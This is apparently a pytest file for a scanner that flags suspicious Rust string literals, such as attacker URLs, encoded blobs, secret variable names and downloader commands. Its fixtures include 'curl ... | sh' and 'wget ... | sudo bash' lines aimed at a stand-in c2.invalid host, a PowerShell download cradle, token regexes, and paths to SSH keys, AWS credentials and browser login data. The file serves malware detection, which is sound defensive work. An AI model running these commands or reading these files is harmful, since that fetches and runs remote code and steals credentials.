"""What a literal's value holds: each classifier on its own, with the look-alikes it must
leave alone."""

from __future__ import annotations

import base64

import pytest

from mirror.scan.literals import (
    blobs,
    classify,
    decoded_bytes,
    findings_keys,
    is_secret_variable,
    literal_text,
    own_url,
    secret_patterns,
    sensitive_paths,
    shell_commands,
    text_array,
    urls,
)
from mirror.scan.magic import binary_kind, embedded_kind, magic_kind
from mirror.scan.report import Finding

F = Finding


@pytest.mark.parametrize(
    ("literal", "value", "escapes"),
    [
        ('"plain"', "plain", 0),
        (r'"a\x41\u{42}\n\"q\""', 'aAB\n"q"', 1),
        ('r#"raw "quoted" \\x41"#', 'raw "quoted" \\x41', 0),
        (r'b"\x7fELF"', "\x7fELF", 1),
        ('"line \\\n      continued"', "line continued", 0),
        ('c"cstr"', "cstr", 0),
    ],
)
def test_literal_text_unescapes_as_rust_does(literal: str, value: str, escapes: int) -> None:
    """Escapes, raw strings, byte strings and line continuations decode like rustc's."""
    assert literal_text(literal) == (value, escapes)


def test_urls_name_their_host_and_skip_documentation() -> None:
    """A URL names its host; doc hosts in prose or attributes and the crate's own URLs don't
    count; a computed host is said to be computed."""
    assert list(urls("https://user@c2.invalid:8443/p?q")) == [
        (F.URL, "c2.invalid: https://user@c2.invalid:8443/p?q")
    ]
    assert list(urls("see https://docs.rs/x for more")) == []
    assert list(urls("https://docs.rs/x")) == [(F.URL, "docs.rs: https://docs.rs/x")]
    assert list(urls("https://docs.rs/x", in_attribute=True)) == []
    assert (
        list(
            urls(
                "https://gitlab.invalid/a/b/-/raw/x",
                own=(own_url("https://gitlab.invalid/a/b.git"),),
            )
        )
        == []
    )
    assert list(urls("https://{}/api")) == [(F.URL, "(computed host): https://{}/api")]
    assert list(urls("wss://[2001:db8::5]:9/")) == [(F.URL, "2001:db8::5: wss://[2001:db8::5]:9/")]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("198.51.100.23", True),
        ("connect 198.51.100.23:4444 now", True),
        ("2001:db8::1", True),
        (".::6;", False),
        ("127.0.0.1:0", False),
        ("0.0.0.0", False),
        ("255.255.255.0", False),
        ("::1", False),
        ("1.2.3.4.5", False),
        ("300.1.1.1", False),
        ("v1.2.3", False),
    ],
)
def test_raw_addresses(text: str, found: bool) -> None:
    """Routable addresses count; loopback, any, masks and version-like numbers don't."""
    assert bool(list(urls(text))) is found


def test_blobs_decode_when_they_can() -> None:
    """Long base64/hex runs say what they decode to (a binary by its magic, or text)."""
    elf = base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(120)).decode()
    assert list(blobs(elf, 0)) == [
        (F.ENCODED_BLOB, f"base64, {len(elf)} chars, decodes to ELF binary")
    ]
    hexed = ("curl -s https://c2.invalid/x | sh;" * 3).encode().hex()
    item = next(blobs(hexed, 0))[1]
    assert item.startswith(f"hex, {len(hexed)} chars, decodes to 'curl -s https://c2.invalid/x")
    assert list(blobs("a" * 200, 0)) == []  # a ruler
    assert list(blobs("Ab1_" * 40, 0)) == []  # identifier-like: no base64 punctuation
    escaped = "\x7fELF" + "\0" * 60
    assert list(blobs(escaped, 64)) == [(F.ENCODED_BLOB, "64 escaped bytes, decodes to ELF binary")]


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("GITHUB_TOKEN", True),
        ("CARGO_REGISTRY_TOKEN", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("AWS_PROFILE", True),
        ("POLYMARKET_PRIVATE_KEY", True),
        ("NPM_TOKEN", True),
        ("DB_PASSWORD", True),
        ("WALLET_SEED_PHRASE", True),
        ("CONST_RANDOM_SEED", False),
        ("GITHUB_ACTIONS", False),
        ("RUST_LOG", False),
        ("HOME", False),
        ("OUT_DIR", False),
        ("Token", False),
        ("KEYBOARD_LAYOUT", False),
    ],
)
def test_secret_variable_names(name: str, secret: bool) -> None:
    """Secret words as whole `_`-separated words, or credential services' prefixes."""
    assert is_secret_variable(name) is secret


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl", "downloader curl"),
        ("/usr/bin/wget -q -O- http://x.invalid", "downloader wget"),
        ("powershell.exe", "script host powershell"),
        ("C:\\Windows\\System32\\certutil.exe -urlcache", "downloader certutil"),
        ("sh -c 'id'", "shell command"),
        ("cmd /C start x.exe", "shell command"),
        ("wget -O- http://x.invalid | sudo bash", "downloader wget"),
        ("echo aGk= | base64 -d | sh", "shell command"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "script host iex"),
    ],
)
def test_shell_commands(text: str, kind: str) -> None:
    """Downloaders, script hosts, `sh -c`, pipes into a shell, PowerShell download cradles."""
    assert next(shell_commands(text))[1].startswith(kind)


@pytest.mark.parametrize(
    "text", ["sh", "bash", "git", "cc", "rustc --version", "make -j4", "cmake"]
)
def test_ordinary_commands_are_not_shell_findings(text: str) -> None:
    """Build scripts run compilers and tools; a shell without `-c` runs nothing by itself."""
    assert list(shell_commands(text)) == []


def test_secret_patterns() -> None:
    """Regexes for keys and tokens; ordinary regexes and hex tables are not."""
    for pattern in (
        r"[1-9A-HJ-NP-Za-km-z]{32,44}",
        r"0x[a-fA-F0-9]{64}",
        r"AKIA[0-9A-Z]{16}",
        r"ghp_[A-Za-z0-9]{36}",
    ):
        assert list(secret_patterns(pattern)), pattern
    for text in (r"[a-z]+\d{4}", "0123456789abcdef", "[0-9a-f]{8}"):
        assert list(secret_patterns(text)) == [], text


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("~/.ssh/id_ed25519", "SSH directory"),
        (".aws/credentials", "AWS credentials directory"),
        (
            "C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
            "browser profile data",
        ),
        (".env.production", ".env secrets file"),
        ("/etc/passwd", "system accounts file"),
    ],
)
def test_sensitive_paths(text: str, label: str) -> None:
    assert next(sensitive_paths(text))[1].startswith(label)


@pytest.mark.parametrize(
    "text",
    ["environment", ".envrc-like", "src/keystore_impl.rs", "Cookies and cream", "/etc/hosts"],
)
def test_look_alike_paths_are_not_sensitive(text: str) -> None:
    assert list(sensitive_paths(text)) == []


def test_decoded_bytes_finds_the_key_of_a_decoding_loop() -> None:
    """Printable bytes decode as they are; xor/subtraction by one key to a URL is found;
    bytes that decode to nothing suspicious under any key are left alone."""
    url = b"https://c2.invalid/p"
    assert decoded_bytes(url) == ("text", "https://c2.invalid/p")
    assert decoded_bytes(bytes(b ^ 0x37 for b in url)) == ("xor 0x37", "https://c2.invalid/p")
    assert decoded_bytes(bytes((b + 5) % 256 for b in url)) == ("minus 5", "https://c2.invalid/p")
    assert decoded_bytes(bytes(range(0, 200, 7))) is None
    assert decoded_bytes(b"ab") is None


def test_text_arrays_are_text_not_tables() -> None:
    """An integer array spelling a URL is a blob; alphabets and symbol soup are not."""
    assert text_array(list(b"https://c2.invalid/a")) == (
        F.ENCODED_BLOB,
        "20 integers spell 'https://c2.invalid/a'",
    )
    assert (
        text_array(list(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"))
        is None
    )
    assert text_array(list(b"!#$%&()*+,-./:;<=>?@[]")) is None
    assert text_array(list(b"short")) is None


def test_findings_keys_ignore_the_text_shown() -> None:
    """Keys tell whether joined pieces show something new: host, label, program."""
    assert findings_keys("https://c2.invalid/a") == {(F.URL, "c2.invalid")}
    assert findings_keys("https://") == set()
    assert findings_keys("curl -s") == {(F.SHELL_COMMAND, "downloader curl")}


def test_classify_in_an_attribute_sees_only_urls() -> None:
    """`#[serde(rename = "GITHUB_TOKEN")]` names a field, it reads nothing."""
    assert classify("GITHUB_TOKEN", 0, in_attribute=True) == []
    assert classify("GITHUB_TOKEN", 0) == [
        (F.SENSITIVE_ENV, "secret-looking variable name 'GITHUB_TOKEN'")
    ]


def test_magic_kinds() -> None:
    """Executables and archives by magic; images and fonts are never payloads by their look;
    unrecognised data counts when large and not text."""
    pe = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\0\0" + bytes(16)
    assert magic_kind(pe) == "PE (Windows) binary"
    assert magic_kind(b"PK\x03\x04rest") == "zip archive"
    assert magic_kind(b"\x89PNG\r\n\x1a\n") is None
    assert embedded_kind(b"\x89PNG\r\n\x1a\n\0\0", 1 << 20) is None
    assert embedded_kind(b"\x01\x02\0\x03", 64 * 1024) == "64 KiB of non-text data"
    assert embedded_kind(b"\x01\x02\0\x03", 4 * 1024) is None
    assert embedded_kind(b"plain text", 1 << 20) is None
    # A PE whose header sits past the bytes kept is still a binary (it cannot hide there).
    far = b"MZ" + bytes(0x3A) + (0x4000).to_bytes(4, "little")
    assert binary_kind("x/update.dat", far + bytes(100), 0x5000) == "PE (Windows) binary"
    assert binary_kind("notes.txt", b"MZ is how this note starts", 26) is None
